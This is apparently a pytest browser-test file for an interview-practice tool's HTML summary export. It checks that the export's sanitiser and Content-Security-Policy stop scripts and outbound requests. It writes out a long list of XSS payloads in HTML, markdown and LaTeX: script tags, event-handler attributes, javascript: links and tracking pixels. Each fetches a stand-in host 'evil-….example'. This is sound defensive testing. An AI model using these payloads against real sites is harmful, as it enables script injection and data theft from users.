"""Open the summary in a real browser: it runs no script and makes no request, whatever cards, code and logs contain.

The same page is tried three times: unchanged; without its policy, to prove the sanitiser alone; and with unsanitised
hostile mark-up, to prove the policy alone. The same mark-up without either must be detected as active.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable
from datetime import date, timedelta
from typing import Any

import pytest

from attncli.domain.grade_report import GradeReport
from attncli.domain.log_row import Rating
from attncli.export import summary as lines
from attncli.export.render import policy, to_html
from attncli.export.summary import Summary, TopicLine, summarise
from attncli.i18n import LANGS
from attncli.practice import record
from attncli.practice.grade import record_attempt

from .conftest import NOW

pytestmark = pytest.mark.browser

Open = Callable[[str], Any]

EVENTS = "mouseover mouseenter mousedown click focus focusin blur error load toggle pointerenter keydown".split()
TRY_EVERYTHING = """
const [events, done] = arguments;
const leads = e => e.target.closest("a[href]:not([href^=javascript])");
addEventListener("click", e => { if (leads(e)) e.preventDefault(); }, true);
const all = [...document.querySelectorAll("*")];
for (const element of all) {
  for (const kind of events) {
    const bubbles = !["focus", "blur", "load", "error", "mouseenter", "pointerenter"].includes(kind);
    const made = kind.startsWith("key") ? KeyboardEvent : /mouse|click/.test(kind) ? MouseEvent : Event;
    element.dispatchEvent(new made(kind, {bubbles, cancelable: true}));
  }
}
setTimeout(() => done({
  pwned: window.pwned || 0,
  elements: all.length,
  formulas: document.querySelectorAll("math").length,
  wide: Math.max(0, ...[...document.querySelectorAll("math")].map(m => m.getBoundingClientRect().width)),
  styled: document.querySelectorAll("[style]").length,
  text: document.body.innerText,
  covered: [...document.querySelectorAll("body *")].some(e => getComputedStyle(e).position === "fixed"),
  maxWidth: getComputedStyle(document.body).maxWidth,
}), 300);
"""


@pytest.fixture
def host() -> str:
    """Return a host name that no other test requests."""
    return f"evil-{uuid.uuid4().hex}.example"


def hostile_mark_up(host: str) -> list[str]:
    js = f"window.pwned=1;fetch('http://{host}/f')"
    return [
        f"<script>{js}</script>",
        f'<img src="http://{host}/p.png" onerror="{js}">',
        f'<b onmouseover="{js}" onclick="{js}">over</b>',
        f'<svg onload="{js}"><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
        f'<iframe srcdoc="<script>parent.pwned=1</script>" src="http://{host}/frame"></iframe>',
        f'<details open ontoggle="{js}">x</details>',
        f'<div style="position:fixed;inset:0;background:url(http://{host}/bg)">cover</div>',
        f'<link rel="stylesheet" href="http://{host}/s.css"><style>body{{background:url(http://{host}/b)}}</style>',
        f'<math><mi onmouseover="{js}">hover</mi><mtext href="javascript:{js}">m</mtext></math>',
        f'<form action="http://{host}/form"><button formaction="javascript:{js}">b</button></form>',
        f'<input autofocus onfocus="{js}">',
        f'<object data="http://{host}/o"></object><embed src="http://{host}/e"><video src="http://{host}/v"></video>',
        f'<base href="http://{host}/"><a href="x" ping="http://{host}/ping">based</a>',
        f'<meta http-equiv="refresh" content="0;url=javascript:{js}">',
        f"</code></pre></style><script>{js}</script>",
        f'<a href="javascript:{js}">click</a>',
    ]


def hostile_markdown(host: str) -> list[str]:
    js = f"window.pwned=1;fetch('http://{host}/f')"
    return [
        *hostile_mark_up(host),
        f'$\\text{{<mi\tonmouseover="{js}">hover</mi>}}$',
        f'$\\text{{</mtext></math><img src=http://{host}/i onerror="{js}">}}$',
        f"$\\href{{javascript:{js}}}{{click}}$",
        f"$\\style{{position:fixed;inset:0;background:url(http://{host}/p)}}{{x}}$",
        f'$\\class{{" onmouseover="{js}}}{{x}}$',
        f'$$\\color{{red" onmouseover="{js}}}{{x}}$$',
        f'$$x$$ (" onmouseover="{js}")',
        f"![pixel](http://{host}/pixel.png)",
        f'![a](http://{host}/p "t\\" onerror=\\"{js}")',
        f"[click](javascript:{js})",
        f"[click](JaVaScRiPt&colon;{js})",
        f"[click](data:text/html,<script>{js}</script>) [x](//{host}/relative)",
        f"<javascript:{js}>",
        f'```python" onmouseover="{js}\ncode\n```',
        f"| a |\n|:-:|\n| <img src=http://{host}/t> |",
    ]


def summary(texts: list[str], lang: str = "en") -> Summary:
    """Return a summary that has each text in every possible place."""
    reasons = ("missed", "recall")
    points = {t: (lines.Point(t, True), lines.Point(t, False)) for t in texts}
    head = (texts[0], "qa", "screen")
    cards = tuple(lines.CardLine(t, *head, t, t, t, t, points[t], (t,), 0.4, 2, reasons) for t in texts)
    topics = tuple(TopicLine(t, t, 1, 2, 0.4, 0.5, 1, 2, 3.0) for t in texts)
    unseen = tuple(TopicLine(f"unseen {t}", t, 0, 2, 0.0, 0.0, 0, 0, 2.0) for t in texts)
    solved = tuple(lines.SolvedLine(t, "solved", t, 1, 1, t, f"# \x1b]0;pwned\x07\u202e {t}\n{t}", t) for t in texts)
    counts = {"days_left": 31, "reviews": 1, "streak_days": 1, "seen": 1, "cards": 2, "challenges": 2}
    shares = {"retention": 0.5, "recall_on_day": 0.4, "readiness_on_day": 0.5}
    dates = {"made_on": "2026-03-01", "interview": "2026-04-01"}
    return Summary(
        **{"lang": lang, **counts, **shares, **dates},  # type: ignore[arg-type]
        topics=topics + unseen,
        open_with=topics,
        avoid=topics,
        must_know=tuple(lines.FactLine(t, texts[0], t, t) for t in texts),
        weak=cards,
        weak_count=len(cards) + 1,
        solved=solved,
        repaired=tuple(texts),
        tried=tuple(texts),
        to_review=tuple(lines.DueLine(t, texts[0], t, 0.4) for t in texts),
        due_count=len(cards) + 1,
        mocks=tuple(lines.MockLine(t, 30, 0.5, (t,), (lines.MissLine(t, t, (t,)),)) for t in texts),
        last_days=tuple(lines.PlanLine(t, 30, (t,)) for t in texts),
    )


def requests_for(host: str, open_page: Open) -> int:
    """Count the requests of all pages so far for `host`, after a later page's own request has arrived."""
    last = f"last-{uuid.uuid4().hex}.example"
    callers = open_page(f'<img src="http://{last}/">').callers
    callers.wait_for(last)
    return callers.asked_for(host)


def raw(host: str, own_policy: str = "") -> str:
    head = f'<meta http-equiv="Content-Security-Policy" content="{own_policy}">' if own_policy else ""
    return f"<!doctype html><head><meta charset=utf-8>{head}</head><body>{''.join(hostile_mark_up(host))}</body>"


@pytest.mark.parametrize("lang", ["en", pytest.param("zh", marks=pytest.mark.full)])
def test_nothing_runs_and_nothing_is_asked_for(open_page, host, lang) -> None:
    page = to_html(summary(hostile_markdown(host), lang))
    bare, count = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert count == 1
    for html in (page, bare):
        seen = open_page(html).run(TRY_EVERYTHING, EVENTS)
        assert requests_for(host, open_page) == 0
        assert (seen["pwned"], seen["styled"], seen["covered"]) == (0, 0, False) and seen["elements"] > 500
        assert not set(seen["text"]) & set("\x1b\u202e")


def test_the_policy_alone_would_stop_it_too(open_page, host) -> None:
    seen = open_page(raw(host, policy("p {}"))).run(TRY_EVERYTHING, EVENTS)
    assert (seen["pwned"], seen["covered"]) == (0, False)
    assert requests_for(host, open_page) == 0


def test_a_script_and_a_request_would_have_been_seen(open_page, host) -> None:
    seen = open_page(raw(host)).run(TRY_EVERYTHING, EVENTS)
    assert (seen["pwned"], seen["covered"]) == (1, True)
    open_page("<p>after</p>").callers.wait_for(host, 3)


def test_each_event_would_have_been_seen(open_page) -> None:
    names = ("mouseover", "click", "focus", "error", "load")
    made = "".join(f'<p on{name}="window.pwned = (window.pwned || 0) + {10**n}">x</p>' for n, name in enumerate(names))
    seen = open_page(made).run(TRY_EVERYTHING, EVENTS)
    assert seen["pwned"] == 11111


def test_formulas_tables_and_style_are_drawn(open_page) -> None:
    text = r"$\frac{Q K^\top}{\sqrt{d_k}}$ and" + "\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n$$\\sum_i x_i$$"
    page = to_html(summary([text]))
    seen = open_page(page).run(TRY_EVERYTHING, EVENTS)
    assert seen["formulas"] >= 4 and seen["wide"] > 20 and seen["maxWidth"] == "832px"
    style = re.search(r"<style>(.*?)</style>", page, re.S)
    assert style is not None
    assert policy(style[1]) in page.replace("&#39;", "'"), "its policy names its own style"


@pytest.mark.slow
def test_nothing_scrolls_sideways(open_page, workspace) -> None:
    for n, card in enumerate(("arch-01", "mask-07", "mask-13", "peft-14", "emb-08", "prec-17", "moe-03", "kv-13")):
        record.answer(workspace, card, Rating.AGAIN, NOW - timedelta(minutes=n))
    source = "def softmax(x):\n    return x  " + "# a long comment " * 20
    record_attempt(workspace, GradeReport(challenge="softmax-stable", file="x.py", verdict="accepted"), source)
    for lang in LANGS:
        page = open_page(to_html(summarise(workspace, lang, date(2026, 4, 1))))
        for width, dark in ((390, True), (390, False), (1280, True), (1280, False)):
            seen = page.measure(width, dark)
            assert (seen["wide"], seen["dark"]) == ([], dark), (lang, width)
